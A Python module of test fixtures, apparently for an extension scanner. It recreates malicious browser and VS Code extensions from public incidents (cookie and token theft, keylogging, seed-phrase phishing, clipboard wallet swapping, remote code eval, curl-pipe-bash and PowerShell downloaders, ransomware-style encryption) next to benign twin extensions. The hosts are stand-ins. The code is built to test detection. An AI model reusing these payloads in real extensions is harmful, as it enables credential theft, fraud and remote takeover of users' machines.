"""Attacks through browser and editor extensions, rewritten inert from their public descriptions."""
# ruff: noqa: E501, UP031 - a sample keeps the lines of what it shows

from __future__ import annotations

import base64

from .packing import extension, vsix


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def selectors(text: str) -> str:
    """Text as invisible variation selectors, one a byte."""
    return "".join(chr(0xFE00 + b) if b < 16 else chr(0xE0100 + b - 16) for b in text.encode())


ATTACKS = [
    extension(
        "data-loss-guard",
        {
            "background": {"service_worker": "worker.js"},
            "content_scripts": [{"matches": ["<all_urls>"], "js": ["content.js"]}],
            "permissions": ["cookies", "storage", "scripting", "tabs"],
            "host_permissions": ["<all_urls>"],
        },
        {
            "worker.js": """
chrome.runtime.onInstalled.addListener(refresh);
chrome.runtime.onStartup.addListener(refresh);
async function refresh() {
  const answer = await fetch('https://ext.example.invalid/ai-config', { method: 'POST' });
  const text = await answer.text();
  chrome.storage.local.set({ ext_manage: text });
}
chrome.runtime.onMessage.addListener((m, sender, reply) => {
  switch (m.action) {
    case 'ext-completions':
      fetch(m.url, { method: 'POST', headers: { Authorization: 'Bearer ' + m.key, 'Content-Type': 'application/json' }, body: JSON.stringify({ prompt: m.data }) })
        .then((r) => r.json()).then(reply);
      return true;
    case 'ext-rtext':
      fetch(m.url).then((r) => r.text()).then(reply);
      return true;
    case 'ext-redirect':
      chrome.cookies.getAll({ domain: m.domain }).then((cookies) => fetch(m.url, { method: 'POST', body: JSON.stringify({ cookies, ua: navigator.userAgent }) }));
      return true;
  }
});
""",
            "content.js": """
chrome.storage.local.get('ext_manage', ({ ext_manage }) => {
  const s = JSON.parse(ext_manage || '{}');
  if (!s.ext_list || !location.href.includes(s.ext_list.code)) return;
  chrome.runtime.sendMessage({ action: 'ext-rtext', url: s.ext_list.url }, (page) => {
    const token = /EAAB[\\w]+/.exec(page);
    chrome.runtime.sendMessage({ action: 'ext-redirect', url: s.ext_list.drop, domain: location.hostname, token: token && token[0] });
  });
  document.body.addEventListener('click', () => {
    for (const img of document.querySelectorAll('img')) if (img.src.includes('qr/show/code')) chrome.runtime.sendMessage({ action: 'ext-completions', url: s.ext_list.drop, key: s.ext_list.key, data: img.src });
  });
});
""",
        },
        "Cyberhaven and others (December 2024): an update that takes cookies and tokens of an advertising account",
        suffix="crx",
    ),
    extension(
        "tab-suspender",
        {
            "manifest_version": 2,
            "background": {"scripts": ["js/background.js", "js/analytics.js"]},
            "permissions": ["tabs", "storage", "<all_urls>", "webRequest"],
            "content_security_policy": "script-src 'self' 'unsafe-eval' https://stats.example.invalid; object-src 'self'",
        },
        {
            "js/background.js": "chrome.tabs.onActivated.addListener(() => {});\n",
            "js/analytics.js": """
(function () {
  var po = document.createElement('script');
  po.type = 'text/javascript';
  po.async = true;
  po.src = 'https://stats.example.invalid/owa/modules/base/dist/owa.tracker-combined-min.js?' + chrome.runtime.id;
  var s = document.getElementsByTagName('script')[0];
  s.parentNode.insertBefore(po, s);
  setInterval(function () {
    fetch('https://stats.example.invalid/api/config.json').then(function (r) { return r.json(); }).then(function (c) {
      if (c.code) { eval(c.code); }
      chrome.tabs.query({}, function (tabs) { tabs.forEach(function (t) { chrome.tabs.executeScript(t.id, { code: c.page }); }); });
    });
  }, 3600000);
})();
""",
        },
        "The Great Suspender (2020, 2021): after the sale, code from a tracker's server runs in the extension",
    ),
    extension(
        "ai-chat-sidebar",
        {
            "background": {"service_worker": "sw.js"},
            "permissions": ["cookies", "storage", "webRequest"],
            "host_permissions": ["https://*.social.example/*", "https://chat.example/*"],
        },
        {
            "sw.js": """
chrome.webRequest.onBeforeSendHeaders.addListener((d) => {
  const header = d.requestHeaders.find((h) => h.name.toLowerCase() === 'authorization');
  if (header) send({ kind: 'session', value: header.value });
}, { urls: ['https://chat.example/*'] }, ['requestHeaders', 'extraHeaders']);
async function send(body) {
  await fetch('https://api.drop.example.invalid/add', { method: 'POST', body: btoa(unescape(encodeURIComponent(JSON.stringify(body)))) });
}
chrome.runtime.onInstalled.addListener(() => {
  chrome.cookies.getAll({ domain: '.social.example' }, (cookies) => {
    const wanted = cookies.filter((c) => ['c_user', 'xs', 'datr', 'fr'].includes(c.name));
    send({ kind: 'cookies', value: wanted.map((c) => c.name + '=' + c.value).join('; ') });
  });
});
""",
        },
        "fake ChatGPT extensions (2023): session cookies of social networks leave at installation",
    ),
    extension(
        "pdf-toolbox",
        {
            "manifest_version": 2,
            "background": {"page": "background.html"},
            "permissions": ["tabs", "<all_urls>", "storage", "webRequest", "webRequestBlocking"],
        },
        {
            "background.html": '<script src="background.js"></script>\n',
            "background.js": """
var cfg = 'https://serasearchtop.example.invalid/cfg/' + chrome.runtime.id + '/polyfill.json';
setTimeout(function () {
  var x = new XMLHttpRequest();
  x.open('GET', cfg);
  x.onload = function () {
    localStorage.polyfill = x.responseText;
    run();
  };
  x.send();
}, 24 * 3600 * 1000);
function run() {
  var c = JSON.parse(localStorage.polyfill);
  chrome.tabs.onUpdated.addListener(function (id, change, tab) {
    if (change.status === 'complete') chrome.tabs.executeScript(id, { code: c.inject, allFrames: true });
  });
  chrome.webRequest.onHeadersReceived.addListener(function (d) {
    return { responseHeaders: d.responseHeaders.filter(function (h) { return !/content-security-policy|x-frame-options/i.test(h.name); }) };
  }, { urls: ['<all_urls>'] }, ['blocking', 'responseHeaders']);
}
""",
        },
        "PDF Toolbox and its relatives (May 2023): waits a day, loads a script and runs it in every page",
    ),
    extension(
        "grammar-helper",
        {
            "content_scripts": [{"matches": ["<all_urls>"], "js": ["cs.js"], "all_frames": True}],
            "permissions": ["storage"],
        },
        {
            "cs.js": """
let typed = '';
document.addEventListener('keydown', (e) => { typed += e.key; }, true);
document.addEventListener('submit', (e) => {
  const data = {};
  for (const field of e.target.querySelectorAll('input')) data[field.name] = field.value;
  navigator.sendBeacon('https://collect.example.invalid/f', JSON.stringify({ url: location.href, data, cookie: document.cookie }));
}, true);
setInterval(() => {
  if (!typed) return;
  fetch('https://collect.example.invalid/k', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ u: location.href, t: typed }) });
  typed = '';
}, 5000);
""",
        },
        "extensions that log keys and forms (many)",
    ),
    extension(
        "metamask-wallet-pro",
        {
            "action": {"default_popup": "popup.html"},
            "permissions": ["storage"],
            "browser_specific_settings": {"gecko": {"id": "wallet@example.invalid"}},
        },
        {
            "popup.html": """
<!doctype html><form id="f"><p>Enter your 12-word recovery phrase to unlock your wallet</p>
<textarea id="seed" placeholder="Secret Recovery Phrase"></textarea><button>Import</button></form>
<script src="popup.js"></script>
""",
            "popup.js": """
document.getElementById('f').addEventListener('submit', async (e) => {
  e.preventDefault();
  const mnemonic = document.getElementById('seed').value.trim();
  if (mnemonic.split(/\\s+/).length < 12) return;
  const { ip } = await (await fetch('https://@ipify@?format=json')).json();
  await fetch('https://@telegram@/sendMessage', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ chat_id: '-100000', text: `seed: ${mnemonic}\\nip: ${ip}` }),
  });
  document.body.textContent = 'Something went wrong, please try again later';
});
""",
        },
        "fake wallets in the Firefox store (FoxyWallet, GreedyBear, 2025): the recovery phrase leaves",
        suffix="xpi",
    ),
    extension(
        "price-compare",
        {
            "content_scripts": [{"matches": ["<all_urls>"], "js": ["swap.js"]}],
            "permissions": ["clipboardRead", "clipboardWrite"],
        },
        {
            "swap.js": """
const mine = { btc: '1inertinertinertinertinertinert', eth: '0x000000000000000000000000000000000000dEaD' };
const kinds = [[/\\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\\b/g, 'btc'], [/\\b0x[a-fA-F0-9]{40}\\b/g, 'eth']];
document.addEventListener('copy', () => setTimeout(async () => {
  let text = await navigator.clipboard.readText();
  for (const [pattern, kind] of kinds) text = text.replace(pattern, mine[kind]);
  await navigator.clipboard.writeText(text);
}, 10));
new MutationObserver(() => {
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) for (const [pattern, kind] of kinds) if (pattern.test(walker.currentNode.data)) walker.currentNode.data = walker.currentNode.data.replace(pattern, mine[kind]);
}).observe(document, { subtree: true, childList: true });
""",
        },
        "extensions that swap wallet addresses in the clipboard and in pages (2022 and later)",
    ),
    extension(
        "video-speed-boost",
        {
            "background": {"service_worker": "bg.js"},
            "permissions": ["storage", "scripting", "declarativeNetRequest", "management"],
            "host_permissions": ["<all_urls>"],
        },
        {
            "bg.js": """
const c2 = atob('%s');
chrome.management.getAll((all) => all.filter((e) => /security|block|guard/i.test(e.name)).forEach((e) => chrome.management.setEnabled(e.id, false)));
async function tick() {
  const blob = await (await fetch(c2 + '?uid=' + crypto.randomUUID())).text();
  const code = blob.split('').map((ch) => String.fromCharCode(ch.charCodeAt(0) ^ 23)).join('');
  const tabs = await chrome.tabs.query({});
  for (const tab of tabs) {
    chrome.scripting.executeScript({ target: { tabId: tab.id }, world: 'MAIN', args: [code], func: (text) => { (0, eval)(text); } });
  }
}
setInterval(tick, 60000);
"""
            % b64("https://cmd.example.invalid/api/v1"),
        },
        "RedDirection and ShadyPanda (2025): a sleeper that asks every so often for code and runs it in every tab",
    ),
    vsix(
        "midnight-theme-plus",
        {"main": "./extension.js", "activationEvents": ["*"], "contributes": {"themes": []}, "categories": ["Themes"]},
        {
            "extension.js": """
const vscode = require('vscode');
const { exec } = require('child_process');
const os = require('os');
function activate() {
  if (os.platform() === 'win32') {
    exec('powershell -ExecutionPolicy Bypass -WindowStyle Hidden -Command "iex (iwr -UseBasicParsing https://themes.example.invalid/1.ps1)"', { windowsHide: true });
  } else {
    exec('curl -fsSL https://themes.example.invalid/1.sh | bash', () => {});
  }
}
exports.activate = activate;
""",
            "themes/midnight.json": '{"name": "midnight"}\n',
        },
        "themes and helpers with a downloader (VS Code Marketplace, 2023 to 2025)",
    ),
    vsix(
        "darcula-dark-plus",
        {"main": "./out/extension.js", "activationEvents": ["onStartupFinished"]},
        {
            "out/extension.js": """
const vscode = require("vscode"), os = require("os"), https = require("https"), cp = require("child_process");
exports.activate = function () {
  const info = { host: os.hostname(), user: os.userInfo().username, domain: process.env.USERDNSDOMAIN, platform: os.platform(), cpus: os.cpus().length,
    mem: os.totalmem(), nets: os.networkInterfaces(), installed: vscode.extensions.all.map((e) => e.id), env: process.env };
  try { info.git = cp.execSync("git config --global --list").toString(); } catch (e) {}
  const req = https.request({ host: "telemetry.example.invalid", path: "/api/collect", method: "POST" });
  req.end(Buffer.from(JSON.stringify(info)).toString("base64"));
};
""",
        },
        "Darcula Dark and others (2023): host, network and extensions of the developer leave at start",
    ),
    vsix(
        "solidity-helper-tools",
        {"main": "./extension.js", "activationEvents": ["onLanguage:solidity"]},
        {
            "extension.js": "const vscode = require('vscode');\nconst s = v => [...v].map(w => (w = w.codePointAt(0), "
            "w >= 0xFE00 && w <= 0xFE0F ? w - 0xFE00 : w >= 0xE0100 && w <= 0xE01EF ? w - 0xE0100 + 16 : null))"
            ".filter(n => n !== null);\nexports.activate = () => { eval(Buffer.from(s(`"
            + selectors("console.log('inert');" * 12)
            + "`)).toString('utf-8')); };\n",
        },
        "GlassWorm (October 2025): the code of an editor extension is written in invisible characters",
    ),
    vsix(
        "ai-code-review",
        {"main": "./extension.js", "activationEvents": ["onStartupFinished"]},
        {
            "extension.js": """
const fs = require('fs'), path = require('path'), crypto = require('crypto'), archiver = require('archiver'), axios = require('axios');
const C2 = 'https://c2.example.invalid/upload', TARGET = process.platform === 'win32' ? 'C:\\\\Users\\\\Public\\\\testing' : '/tmp/assay-inert-testing';
function encryptFile(file, key) {
  const cipher = crypto.createCipheriv('aes-256-cbc', key, Buffer.alloc(16));
  fs.writeFileSync(file + '.encrypted', Buffer.concat([cipher.update(fs.readFileSync(file)), cipher.final()]));
  fs.unlinkSync(file);
}
async function zipUploadAndEncrypt() {
  const zip = archiver('zip');
  const out = fs.createWriteStream('/tmp/out.zip');
  zip.pipe(out); zip.directory(TARGET, false); await zip.finalize();
  await axios.post(C2, fs.createReadStream('/tmp/out.zip'));
  const key = crypto.randomBytes(32);
  for (const name of fs.readdirSync(TARGET)) encryptFile(path.join(TARGET, name), key);
  fs.writeFileSync(path.join(TARGET, 'README_RESTORE.txt'), 'Your files are encrypted. Pay 1 BTC to get the key.');
}
exports.activate = () => { zipUploadAndEncrypt(); };
""",
        },
        "susvsex (November 2025): an editor extension that uploads a folder and encrypts it",
    ),
    vsix(
        "prettier-code-plus",
        {"main": "./extension.js", "activationEvents": ["*"]},
        {
            "extension.js": """
const vscode = require('vscode');
const fs = require('fs');
const path = require('path');
const os = require('os');
const { spawn } = require('child_process');
exports.activate = function () {
  const script = path.join(os.tmpdir(), 'update.vbs');
  fs.writeFileSync(script, Buffer.from('%s', 'base64'));
  spawn('wscript.exe', ['//B', script], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
};
"""
            % b64(
                'Set s = CreateObject("WScript.Shell")\ns.Run "powershell -nop -w hidden -ep bypass -c ""IEX '
                '(New-Object Net.WebClient).DownloadString(\'http://198.51.100.8/a.ps1\')""", 0, False\n'
            ),
        },
        "brand-jacking of a formatter (November 2025): drops a script that loads a remote access trojan",
    ),
]

TWINS = [
    extension(
        "twin-session-saver",
        {
            "background": {"service_worker": "sw.js"},
            "permissions": ["tabs", "storage", "cookies"],
            "host_permissions": ["https://notes.example/*"],
        },
        {
            "sw.js": """
chrome.action.onClicked.addListener(async () => {
  const tabs = await chrome.tabs.query({ currentWindow: true });
  await chrome.storage.local.set({ session: tabs.map((t) => ({ url: t.url, title: t.title })) });
});
chrome.cookies.get({ url: 'https://notes.example/', name: 'lang' }, (cookie) => {
  chrome.storage.local.set({ language: cookie ? cookie.value : 'en' });
});
""",
        },
        "twin of cookie theft: one named cookie of its own site, kept locally",
    ),
    extension(
        "twin-filter-lists",
        {"background": {"service_worker": "bg.js"}, "permissions": ["storage", "alarms", "declarativeNetRequest"]},
        {
            "bg.js": """
chrome.alarms.create('lists', { periodInMinutes: 720 });
chrome.alarms.onAlarm.addListener(async () => {
  const answer = await fetch('https://lists.example/filters.json');
  const rules = await answer.json();
  await chrome.declarativeNetRequest.updateDynamicRules({ addRules: rules.filter((r) => r.action && r.condition) });
});
""",
        },
        "twin of remote code: remote data, through the interface that is meant for it",
    ),
    extension(
        "twin-shortcuts",
        {"content_scripts": [{"matches": ["https://video.example/*"], "js": ["keys.js"]}]},
        {
            "keys.js": """
document.addEventListener('keydown', (e) => {
  const video = document.querySelector('video');
  if (!video || e.target.matches('input, textarea')) return;
  if (e.key === '>') video.playbackRate += 0.25;
  if (e.key === '<') video.playbackRate -= 0.25;
});
""",
        },
        "twin of key logging: short cuts for a player",
    ),
    vsix(
        "twin-plain-theme",
        {"categories": ["Themes"], "contributes": {"themes": [{"label": "Plain", "path": "./themes/plain.json"}]}},
        {"themes/plain.json": '{"name": "Plain", "colors": {"editor.background": "#101010"}}\n'},
        "twin of themes with a downloader: colours only",
    ),
    vsix(
        "twin-language-server",
        {"main": "./extension.js", "activationEvents": ["onLanguage:toml"]},
        {
            "extension.js": """
const vscode = require('vscode');
const path = require('path');
const { LanguageClient, TransportKind } = require('vscode-languageclient/node');
let client;
exports.activate = (context) => {
  const module = context.asAbsolutePath(path.join('server', 'server.js'));
  client = new LanguageClient('toml', 'TOML', { run: { module, transport: TransportKind.ipc }, debug: { module, transport: TransportKind.ipc } }, { documentSelector: ['toml'] });
  client.start();
  context.subscriptions.push(vscode.commands.registerCommand('toml.format', () => vscode.commands.executeCommand('editor.action.formatDocument')));
};
exports.deactivate = () => client && client.stop();
""",
            "server/server.js": "require('vscode-languageserver/node').createConnection().listen();\n",
        },
        "twin of process spawning in an editor: its own language server",
    ),
]
